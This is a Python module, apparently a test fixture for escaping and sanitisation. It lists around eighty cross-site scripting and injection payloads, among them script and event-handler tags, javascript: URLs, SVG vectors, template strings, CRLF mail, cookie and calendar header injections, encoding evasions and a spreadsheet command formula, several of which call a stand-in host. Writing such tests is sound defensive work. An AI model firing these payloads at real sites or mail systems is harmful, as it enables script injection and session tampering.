"""Texts that try to become more than text: in pages, addresses, letters, calendars and headers."""

from __future__ import annotations

from collections.abc import Iterator

MARK = "hax"
"""Stands in every text, so that whatever comes out of one is recognised."""

SCRIPTS = (
    "<script>hax(1)</script>",
    "<ScRiPt>hax(2)</sCrIpT>",
    "<script src=//hax.example/3></script>",
    "</script><script>hax(4)</script>",
    "</title><script>hax(5)</script>",
    "</textarea><script>hax(6)</script>",
    "</style><script>hax(7)</script>",
    "--><script>hax(8)</script><!--",
    "]]><script>hax(9)</script>",
    "<scr<script>ipt>hax(10)</scr</script>ipt>",
    "<script\x0b>hax(11)</script>",
    "<noscript><p title='</noscript><img src=x onerror=hax(12)>'>",
)
ELEMENTS = (
    "<img src=x onerror=hax(13)>",
    "<img src='x' onerror='hax(14)'/>",
    "<img/src=x/onerror=hax(15)>",
    "<iframe src=javascript:hax(16)></iframe>",
    "<iframe srcdoc='<script>hax(17)</script>'></iframe>",
    "<object data=data:text/html,hax18></object>",
    "<embed src=//hax.example/19.swf>",
    "<form action=//hax.example/20><button>hax",
    "<input autofocus onfocus=hax(21)>",
    "<details open ontoggle=hax(22)>",
    "<video><source onerror=hax(23)></video>",
    "<body onload=hax(24)>",
    "<base href=//hax.example/25/>",
    "<link rel=stylesheet href=//hax.example/26.css>",
    "<meta http-equiv=refresh content='0;url=//hax.example/27'>",
    "<style>*{background:url(//hax.example/28)}</style>",
    "<template><img src=x onerror=hax(29)></template>",
    "<table background=javascript:hax(30)>",
    "<a href=javascript:hax(31)>hax</a>",
    "<button formaction=javascript:hax(32)>hax</button>",
)
ATTRIBUTES = (
    '" onmouseover="hax(33)',
    "' onmouseover='hax(34)",
    '" autofocus onfocus=hax(35) x="',
    "x onclick=hax(36)",
    '"><img src=x onerror=hax(37)>',
    "'><img src=x onerror=hax(38)>",
    '" style="background:url(//hax.example/39)',
    '" hx-get="//hax.example/40" hx-trigger="load',
    "` onerror=`hax(41)",
    "&quot; onfocus=hax(42) &quot;",
)
ADDRESSES = (
    "javascript:hax(43)",
    "JaVaScRiPt:hax(44)",
    "java\tscript:hax(45)",
    "data:text/html,<script>hax(46)</script>",
    "vbscript:hax(47)",
    "[hax](javascript:hax(48))",
    '![hax](x" onerror="hax(49))',
    "<javascript:hax(50)>",
    'https://hax.example/51"onclick="hax()',
)
DRAWINGS = (
    "<svg onload=hax(52)>",
    "<svg><script>hax(53)</script></svg>",
    "<svg><a xlink:href=javascript:hax(54)><text>hax</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=hax(55)>'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hax(56)>",
)
TEMPLATES = (
    "{{ hax.57|safe }}",
    "{% load hax58 %}",
    '{% include "hax59" %}',
    "${hax(60)}",
    "#{hax(61)} <%= hax(62) %>",
    "%(hax63)s {hax64} %s %d",
)
LINES = (
    "hax65\r\nATTENDEE:mailto:hax65@hax.example",
    "hax66\nEND:VEVENT\nBEGIN:VALARM\nACTION:AUDIO",
    "hax67\r\nBcc: hax67@hax.example",
    "hax68\r\n\r\n<script>hax(68)</script>",
    "hax69\r\nSet-Cookie: session=hax69",
    "hax70;CN=hax\\,hax:mailto:hax70@hax.example",
    "hax71\u2028BEGIN:VEVENT\u2029\u0085X-HAX:71",
)
LETTERS = (
    "\uff1cscript\uff1ehax(72)\uff1c/script\uff1e",
    "\u202e>tpircs/<(37)xah>tpircs<hax73",
    "<\u200bscript>hax(74)</script>",
    "&lt;script&gt;hax(75)&lt;/script&gt;",
    "%3Cscript%3Ehax(76)%3C/script%3E",
    "\\u003cscript\\u003ehax(77)\\u003c/script\\u003e",
    "+ADw-script+AD4-hax(78)+ADw-/script+AD4-",
    "\xbcscript\xbehax(79)\xbc/script\xbe",
    "\ufeff<script>hax(80)</script>",
    "<img src=x onerror=&#104;ax(81)>",
    "=hax82|'/bin/hax'!A1",
)
PAYLOADS = (
    *SCRIPTS, *ELEMENTS, *ATTRIBUTES, *ADDRESSES, *DRAWINGS, *TEMPLATES, *LINES, *LETTERS
)  # fmt: skip


def packs(longest: int) -> Iterator[str]:
    """All payloads, as many to a text as ``longest`` characters hold."""
    pack = ""
    for payload in (one for one in PAYLOADS if len(one) <= longest):
        if len(pack) + 1 + len(payload) > longest and pack:
            yield pack
            pack = ""
        pack = f"{pack} {payload}".strip(" ")
    yield pack
